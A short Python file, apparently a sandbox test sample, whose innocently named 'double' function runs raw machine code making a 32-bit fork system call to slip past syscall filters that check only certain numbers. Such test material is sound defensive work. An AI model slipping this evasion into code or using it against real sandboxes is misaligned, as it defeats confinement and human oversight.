"""Runs machine code that makes a 32-bit system call (fork), against filters that look at numbers only (51, 52)."""
import ctypes
import mmap


def double(x):
    code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    code.write(b"\xb8\x02\x00\x00\x00\xcd\x80\x0f\x0b")  # mov eax, 2; int 0x80; ud2
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    return 2 * x
